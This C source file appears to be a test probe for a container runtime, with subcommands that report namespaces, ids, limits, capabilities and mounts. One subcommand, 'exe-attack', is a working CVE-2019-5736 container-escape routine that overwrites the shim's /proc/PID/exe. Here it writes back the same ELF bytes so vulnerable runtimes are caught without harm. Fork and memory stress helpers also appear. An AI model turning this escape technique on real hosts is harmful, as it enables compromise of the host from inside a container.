/*
 * skiff-probe: a static helper that tests run inside containers, to look from the inside rather
 * than trust what the runtime says it did (as crun's tests/init.c). One subcommand per fact; plain
 * text on stdout, exit 0; on failure a message on stderr and a non-zero status.
 */
#include <dirent.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int die(const char *what, const char *obj)
{
	fprintf(stderr, "skiff-probe: %s `%s`: %s\n", what, obj, strerror(errno));
	return 1;
}

static const char *errname(int err)
{
	const char *name = strerrorname_np(err);
	return name ? name : "EUNKNOWN";
}

static int copy_fd(int in, const char *name)
{
	char buf[65536];
	for (;;) {
		ssize_t n = read(in, buf, sizeof buf);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			return die("read", name);
		if (n == 0)
			return 0;
		if (fwrite(buf, 1, (size_t)n, stdout) != (size_t)n)
			return die("write", "stdout");
	}
}

static int cmd_cat(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			return die("open", argv[i]);
		int rc = copy_fd(fd, argv[i]);
		close(fd);
		if (rc)
			return rc;
	}
	return 0;
}

static int cmd_readlink(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char target[PATH_MAX];
		ssize_t n = readlink(argv[i], target, sizeof target - 1);
		if (n < 0)
			return die("readlink", argv[i]);
		target[n] = '\0';
		printf("%s\n", target);
	}
	return 0;
}

static int cmd_ns(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	static const char *names[] = { "cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts" };
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		char path[64], target[256];
		snprintf(path, sizeof path, "/proc/self/ns/%s", names[i]);
		ssize_t n = readlink(path, target, sizeof target - 1);
		if (n < 0)
			return die("readlink", path);
		target[n] = '\0';
		printf("%s %s\n", names[i], target);
	}
	return 0;
}

static int cmd_id(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);
	if (n < 0)
		return die("getgroups", "");
	printf("uid=%u gid=%u euid=%u egid=%u groups=", getuid(), getgid(), geteuid(), getegid());
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	return 0;
}

static int cmd_cwd(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	char cwd[PATH_MAX];
	if (!getcwd(cwd, sizeof cwd))
		return die("getcwd", "");
	printf("%s\n", cwd);
	return 0;
}

static int cmd_isatty(int argc, char **argv)
{
	int fd = argc > 0 ? atoi(argv[0]) : 0;
	printf("%s\n", isatty(fd) ? "yes" : "no");
	return 0;
}

static int cmd_pid(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	printf("%d %d\n", getpid(), getppid());
	return 0;
}

static int cmd_hostname(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	struct utsname u;
	if (uname(&u) < 0)
		return die("uname", "");
	printf("%s %s\n", u.nodename, u.domainname);
	return 0;
}

static int cmd_rlimit(int argc, char **argv)
{
	static const struct {
		const char *name;
		int resource;
	} limits[] = {
		{ "CPU", RLIMIT_CPU },         { "FSIZE", RLIMIT_FSIZE },     { "DATA", RLIMIT_DATA },
		{ "STACK", RLIMIT_STACK },     { "CORE", RLIMIT_CORE },       { "RSS", RLIMIT_RSS },
		{ "NPROC", RLIMIT_NPROC },     { "NOFILE", RLIMIT_NOFILE },   { "MEMLOCK", RLIMIT_MEMLOCK },
		{ "AS", RLIMIT_AS },           { "LOCKS", RLIMIT_LOCKS },     { "SIGPENDING", RLIMIT_SIGPENDING },
		{ "MSGQUEUE", RLIMIT_MSGQUEUE }, { "NICE", RLIMIT_NICE },     { "RTPRIO", RLIMIT_RTPRIO },
		{ "RTTIME", RLIMIT_RTTIME },
	};
	if (argc < 1) {
		fprintf(stderr, "skiff-probe: rlimit NAME\n");
		return 2;
	}
	const char *name = argv[0];
	if (strncmp(name, "RLIMIT_", 7) == 0)
		name += 7;
	for (size_t i = 0; i < sizeof limits / sizeof limits[0]; i++) {
		if (strcmp(limits[i].name, name) != 0)
			continue;
		struct rlimit rl;
		if (getrlimit(limits[i].resource, &rl) < 0)
			return die("getrlimit", argv[0]);
		if (rl.rlim_cur == RLIM_INFINITY)
			printf("unlimited ");
		else
			printf("%llu ", (unsigned long long)rl.rlim_cur);
		if (rl.rlim_max == RLIM_INFINITY)
			printf("unlimited\n");
		else
			printf("%llu\n", (unsigned long long)rl.rlim_max);
		return 0;
	}
	fprintf(stderr, "skiff-probe: unknown rlimit `%s`\n", argv[0]);
	return 2;
}

static int cmd_umask(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	mode_t m = umask(0);
	umask(m);
	printf("%04o\n", m);
	return 0;
}

static int cmd_memhog(int argc, char **argv)
{
	size_t mib = argc > 0 ? strtoull(argv[0], NULL, 10) : 0;
	long page = sysconf(_SC_PAGESIZE);
	for (size_t i = 0; i < mib; i++) {
		char *chunk = malloc(1 << 20);
		if (!chunk)
			return die("malloc", argv[0]);
		for (size_t off = 0; off < (1 << 20); off += (size_t)page)
			chunk[off] = 1; /* touch every page: allocation alone charges nothing */
	}
	printf("done\n");
	return 0;
}

/* memhold MIB: as memhog, then keeps the memory (sleeps until killed), for a cgroup near its limit. */
static int cmd_memhold(int argc, char **argv)
{
	int rc = cmd_memhog(argc, argv);
	if (rc != 0)
		return rc;
	fflush(stdout);
	for (;;)
		pause();
}

/*
 * dstate SECONDS: a real uninterruptible wait. The parent of a vfork sleeps in TASK_KILLABLE (shown
 * as D) until the child execs or exits; the child sleeps SECONDS, then exits. Prints "done" after.
 */
static int cmd_dstate(int argc, char **argv)
{
	double secs = argc > 0 ? strtod(argv[0], NULL) : 0;
	struct timespec ts = { .tv_sec = (time_t)secs, .tv_nsec = (long)((secs - (double)(time_t)secs) * 1e9) };
	pid_t pid = vfork();
	if (pid < 0)
		return die("vfork", "");
	if (pid == 0) {
		while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
			;
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	printf("done\n");
	return 0;
}

static int cmd_forkbomb(int argc, char **argv)
{
	int n = argc > 0 ? atoi(argv[0]) : 0, made = 0, first_err = 0;
	pid_t *pids = calloc((size_t)(n > 0 ? n : 1), sizeof *pids);
	if (!pids)
		return die("calloc", "");
	for (int i = 0; i < n; i++) {
		pid_t pid = fork();
		if (pid == 0) {
			pause();
			_exit(0);
		}
		if (pid < 0) {
			if (!first_err)
				first_err = errno;
			continue;
		}
		pids[made++] = pid;
	}
	for (int i = 0; i < made; i++) {
		kill(pids[i], SIGKILL);
		waitpid(pids[i], NULL, 0);
	}
	printf("%d %s\n", made, first_err ? errname(first_err) : "ok");
	return 0;
}

static int cmd_write(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "skiff-probe: write FILE TEXT\n");
		return 2;
	}
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, argv[1], strlen(argv[1])) < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	close(fd);
	printf("ok\n");
	return 0;
}

static int cmd_mknod_test(int argc, char **argv)
{
	if (argc < 1) {
		fprintf(stderr, "skiff-probe: mknod-test PATH\n");
		return 2;
	}
	/* /dev/null's numbers: whether the container may make device nodes at all. */
	if (mknod(argv[0], S_IFCHR | 0600, makedev(1, 3)) < 0) {
		printf("%s\n", errname(errno));
		return 1;
	}
	unlink(argv[0]);
	printf("ok\n");
	return 0;
}

static const char *file_type(mode_t mode)
{
	switch (mode & S_IFMT) {
	case S_IFREG: return "file";
	case S_IFDIR: return "dir";
	case S_IFLNK: return "symlink";
	case S_IFCHR: return "char";
	case S_IFBLK: return "block";
	case S_IFIFO: return "fifo";
	case S_IFSOCK: return "socket";
	default: return "unknown";
	}
}

static int cmd_stat(int argc, char **argv)
{
	if (argc < 1) {
		fprintf(stderr, "skiff-probe: stat PATH\n");
		return 2;
	}
	struct stat st;
	if (lstat(argv[0], &st) < 0)
		return die("lstat", argv[0]);
	printf("%s %04o %u %u %u %u\n", file_type(st.st_mode), st.st_mode & 07777, st.st_uid, st.st_gid,
	       major(st.st_rdev), minor(st.st_rdev));
	return 0;
}

static int compare_names(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static int cmd_ls(int argc, char **argv)
{
	const char *dir = argc > 0 ? argv[0] : ".";
	DIR *d = opendir(dir);
	if (!d)
		return die("opendir", dir);
	char **names = NULL;
	size_t n = 0;
	for (struct dirent *e; (e = readdir(d));) {
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		char **grown = realloc(names, (n + 1) * sizeof *names);
		if (!grown || !(grown[n] = strdup(e->d_name)))
			return die("realloc", dir);
		names = grown;
		n++;
	}
	closedir(d);
	qsort(names, n, sizeof *names, compare_names);
	for (size_t i = 0; i < n; i++)
		printf("%s\n", names[i]);
	return 0;
}

static int cmd_sleep(int argc, char **argv)
{
	double secs = argc > 0 ? strtod(argv[0], NULL) : 0;
	struct timespec ts = { .tv_sec = (time_t)secs, .tv_nsec = (long)((secs - (double)(time_t)secs) * 1e9) };
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
	return 0;
}

static int cmd_exit(int argc, char **argv)
{
	return argc > 0 ? atoi(argv[0]) : 0;
}

static int cmd_env(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (char **e = environ; *e; e++)
		printf("%s\n", *e);
	return 0;
}

static int cmd_fds(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return die("opendir", "/proc/self/fd");
	int self = dirfd(d);
	for (struct dirent *e; (e = readdir(d));) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == self)
			continue;
		char path[300], target[PATH_MAX];
		snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("%s %s\n", e->d_name, target);
	}
	closedir(d);
	return 0;
}

static int cmd_caps(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	static const char *keys[] = { "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:" };
	FILE *f = fopen("/proc/self/status", "re");
	if (!f)
		return die("open", "/proc/self/status");
	char line[512];
	while (fgets(line, sizeof line, f))
		for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++)
			if (strncmp(line, keys[i], strlen(keys[i])) == 0)
				fputs(line, stdout);
	fclose(f);
	return 0;
}

static int cmd_syscall(int argc, char **argv)
{
	if (argc < 1) {
		fprintf(stderr, "skiff-probe: syscall unshare|keyctl\n");
		return 2;
	}
	long rc;
	if (strcmp(argv[0], "unshare") == 0)
		rc = unshare(CLONE_NEWUTS); /* a harmless namespace: the probe exits right after */
	else if (strcmp(argv[0], "keyctl") == 0)
		rc = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
	else {
		fprintf(stderr, "skiff-probe: unknown syscall `%s`\n", argv[0]);
		return 2;
	}
	printf("%s\n", rc < 0 ? errname(errno) : "ok");
	return 0;
}

/* syscall-nr NR [ARG…]: a raw syscall with numeric arguments; prints `ok` or the errno's name. */
static int cmd_syscall_nr(int argc, char **argv)
{
	if (argc < 1 || argc > 7) {
		fprintf(stderr, "skiff-probe: syscall-nr NR [ARG...]\n");
		return 2;
	}
	long a[6] = { 0 };
	for (int i = 1; i < argc; i++)
		a[i - 1] = (long)strtoull(argv[i], NULL, 0);
	long rc = syscall(strtol(argv[0], NULL, 0), a[0], a[1], a[2], a[3], a[4], a[5]);
	printf("%s\n", rc < 0 ? errname(errno) : "ok");
	return 0;
}

/* The pid of another process whose comm is `name`, or 0. */
static pid_t find_comm(const char *name)
{
	DIR *d = opendir("/proc");
	if (!d)
		return 0;
	pid_t found = 0;
	for (struct dirent *e; !found && (e = readdir(d));) {
		pid_t pid = (pid_t)atoi(e->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		char path[64], comm[64] = "";
		snprintf(path, sizeof path, "/proc/%d/comm", pid);
		FILE *f = fopen(path, "re");
		if (!f)
			continue;
		if (fgets(comm, sizeof comm, f) && strncmp(comm, name, strlen(name)) == 0 && comm[strlen(name)] == '\n')
			found = pid;
		fclose(f);
	}
	closedir(d);
	return found;
}

/*
 * exe-attack [SECONDS]: CVE-2019-5736 from inside. Waits for a skiff-shim process in this pid
 * namespace (an init still in its set-up), opens its /proc/PID/exe for writing, keeps an O_PATH fd to
 * it and, once that process has exec'd (ETXTBSY gone), reopens it for writing and writes the ELF
 * magic at offset 0 (the same bytes, so a vulnerable runtime is caught without being destroyed).
 */
static int cmd_exe_attack(int argc, char **argv)
{
	int seconds = argc > 0 ? atoi(argv[0]) : 10;
	struct timespec tick = { 0, 10 * 1000 * 1000 };
	pid_t pid = 0;
	for (int i = 0; i < seconds * 100 && !(pid = find_comm("skiff-shim")); i++)
		nanosleep(&tick, NULL);
	if (!pid) {
		printf("no skiff-shim found\n");
		return 1;
	}
	char exe[64];
	snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
	int w = open(exe, O_WRONLY | O_CLOEXEC);
	printf("open-write: %s\n", w < 0 ? errname(errno) : "ok");
	int fd = open(exe, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("open-path: %s\n", errname(errno));
		return 0;
	}
	fflush(stdout);
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	for (int i = 0; i < seconds * 100; i++) {
		if (w < 0)
			w = open(self, O_WRONLY | O_CLOEXEC);
		if (w < 0 && errno == ETXTBSY) {
			nanosleep(&tick, NULL);
			continue;
		}
		if (w < 0) {
			printf("reopen-write: %s\n", errname(errno));
			return 0;
		}
		ssize_t n = pwrite(w, "\177ELF", 4, 0);
		printf("%s\n", n == 4 ? "written" : n < 0 ? errname(errno) : "short write");
		return 0;
	}
	printf("reopen-write: timeout\n");
	return 0;
}

/*
 * seccomp-agent SOCKET ERRNO: a seccomp agent for SCMP_ACT_NOTIFY tests, run on the host. Listens on
 * SOCKET, takes one runtime message (the container process state JSON + the listener fd in
 * SCM_RIGHTS) and prints the JSON on one line; then answers every notification with -ERRNO, printing
 * `notified nr=N pid=P`, until the container's filter is gone.
 */
static int cmd_seccomp_agent(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "skiff-probe: seccomp-agent SOCKET ERRNO\n");
		return 2;
	}
	int answer = atoi(argv[1]);
	int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	snprintf(addr.sun_path, sizeof addr.sun_path, "%s", argv[0]);
	if (srv < 0 || bind(srv, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(srv, 1) < 0)
		return die("listen", argv[0]);
	int conn = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
	if (conn < 0)
		return die("accept", argv[0]);
	char json[16384];
	char control[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { .iov_base = json, .iov_len = sizeof json - 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
	ssize_t n = recvmsg(conn, &msg, MSG_CMSG_CLOEXEC);
	if (n < 0)
		return die("recvmsg", argv[0]);
	json[n] = '\0';
	struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
	if (!cmsg || cmsg->cmsg_type != SCM_RIGHTS) {
		fprintf(stderr, "skiff-probe: no fd in the message: %s\n", json);
		return 1;
	}
	int fd;
	memcpy(&fd, CMSG_DATA(cmsg), sizeof fd);
	printf("%s\n", json);
	fflush(stdout);
	for (;;) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		if (poll(&pfd, 1, 20000) <= 0 || (pfd.revents & (POLLHUP | POLLERR)) || !(pfd.revents & POLLIN))
			break;
		struct seccomp_notif req;
		memset(&req, 0, sizeof req);
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return die("ioctl", "SECCOMP_IOCTL_NOTIF_RECV");
		}
		struct seccomp_notif_resp resp = { .id = req.id, .val = 0, .error = -answer, .flags = 0 };
		printf("notified nr=%d pid=%u\n", req.data.nr, req.pid);
		fflush(stdout);
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp) < 0 && errno != ENOENT)
			return die("ioctl", "SECCOMP_IOCTL_NOTIF_SEND");
	}
	return 0;
}

/* The scheduling facts a container's program inherits: ioprio class/level, policy, rt priority, nice, personality. */
static int cmd_sched(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	long io = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);
	if (io < 0)
		return die("ioprio_get", "self");
	int policy = sched_getscheduler(0);
	if (policy < 0)
		return die("sched_getscheduler", "self");
	struct sched_param param;
	if (sched_getparam(0, &param) < 0)
		return die("sched_getparam", "self");
	errno = 0;
	int nice = getpriority(PRIO_PROCESS, 0);
	if (errno)
		return die("getpriority", "self");
	long persona = syscall(SYS_personality, 0xffffffffUL);
	if (persona < 0)
		return die("personality", "self");
	printf("ioprio_class=%ld ioprio_level=%ld policy=%d priority=%d nice=%d personality=%#lx\n", io >> 13,
	       io & 0x1fff, policy & ~SCHED_RESET_ON_FORK, param.sched_priority, nice, persona);
	return 0;
}

static int cmd_mountinfo(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	char *file[] = { "/proc/self/mountinfo" };
	return cmd_cat(1, file);
}

static const struct {
	const char *name;
	int (*run)(int argc, char **argv);
} commands[] = {
	{ "cat", cmd_cat },       { "readlink", cmd_readlink }, { "ns", cmd_ns },
	{ "id", cmd_id },         { "cwd", cmd_cwd },           { "isatty", cmd_isatty },
	{ "pid", cmd_pid },       { "hostname", cmd_hostname }, { "rlimit", cmd_rlimit },
	{ "umask", cmd_umask },   { "memhog", cmd_memhog },     { "forkbomb", cmd_forkbomb },
	{ "write", cmd_write },   { "mknod-test", cmd_mknod_test }, { "stat", cmd_stat },
	{ "ls", cmd_ls },         { "sleep", cmd_sleep },       { "exit", cmd_exit },
	{ "env", cmd_env },       { "fds", cmd_fds },           { "caps", cmd_caps },
	{ "syscall", cmd_syscall }, { "mountinfo", cmd_mountinfo },
	{ "syscall-nr", cmd_syscall_nr }, { "exe-attack", cmd_exe_attack },
	{ "seccomp-agent", cmd_seccomp_agent }, { "sched", cmd_sched },
	{ "memhold", cmd_memhold }, { "dstate", cmd_dstate },
};

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: skiff-probe COMMAND [ARG...]\n");
		return 2;
	}
	for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++) {
		if (strcmp(commands[i].name, argv[1]) == 0) {
			int rc = commands[i].run(argc - 2, argv + 2);
			if (fflush(stdout) != 0)
				return die("write", "stdout");
			return rc;
		}
	}
	fprintf(stderr, "skiff-probe: unknown command `%s`\n", argv[1]);
	return 2;
}
